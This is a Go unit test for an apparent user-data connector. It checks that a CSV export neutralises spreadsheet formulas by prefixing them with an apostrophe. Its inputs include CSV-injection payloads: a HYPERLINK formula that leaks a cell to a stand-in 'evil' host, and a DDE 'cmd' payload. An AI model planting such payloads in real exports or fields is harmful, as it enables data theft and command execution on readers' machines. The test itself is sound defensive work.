package sink

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"os"
	"path/filepath"
	"testing"

	"neurons-connector/store"
)

// A value a spreadsheet would evaluate lands in the CSV drop as text: the
// admins who open <name>-users.csv in Excel must not run a user's title.
func TestCSVDropNeutralisesFormulas(t *testing.T) {
	db, err := store.Open(filepath.Join(t.TempDir(), store.FileName), store.Options{Create: true})
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = db.Close() }()
	dir := t.TempDir()
	titles := map[string]string{
		"u1": `=HYPERLINK("http://evil/?x="&A1,"Click")`,
		"u2": `+cmd|' /C calc'!A0`,
		"u3": "-2+3",
		"u4": "@SUM(1+1)",
		"u5": "\tleading tab",
		"u6": "\rleading return",
		"u7": "Engineer = lead", // not at the start: left alone
	}
	b := Batch{SchemaVersion: 1, DataType: "users", Connector: Connector{ID: "c1", Name: "Okta", Type: "okta", Server: "Cloud"},
		Info: BatchInfo{RunID: "r1", Sequence: 1, Mode: "full", Final: true}, Deletes: []Delete{}}
	for id, title := range titles {
		attrs, _ := json.Marshal(map[string]any{"User.JobTitle": title, "User.Groups": []string{"=1+1", "ok"}})
		b.Upserts = append(b.Upserts, Upsert{SourceID: id, Attributes: attrs})
	}
	body, _ := json.Marshal(b)
	p, err := Pack(body)
	if err != nil {
		t.Fatal(err)
	}
	if err := (&CSV{DB: db, Dir: dir, State: t.TempDir()}).Push(context.Background(), "k1", p); err != nil {
		t.Fatal(err)
	}
	rows := readDrop(t, filepath.Join(dir, "Okta-users.csv"))
	col := map[string]int{}
	for i, h := range rows[0] {
		col[h] = i
	}
	for _, r := range rows[1:] {
		title, want := r[col["User.JobTitle"]], titles[r[0]]
		if r[0] != "u7" {
			want = "'" + want
		}
		if title != want {
			t.Errorf("%s: title %q, want %q", r[0], title, want)
		}
		if g := r[col["User.Groups"]]; g != "'=1+1; ok" {
			t.Errorf("%s: groups %q", r[0], g)
		}
	}
	if len(rows) != len(titles)+1 {
		t.Errorf("%d rows", len(rows))
	}
}

// readDrop reads a drop with encoding/csv.
func readDrop(t *testing.T, path string) [][]string {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer func() { _ = f.Close() }()
	rows, err := csv.NewReader(f).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	return rows
}
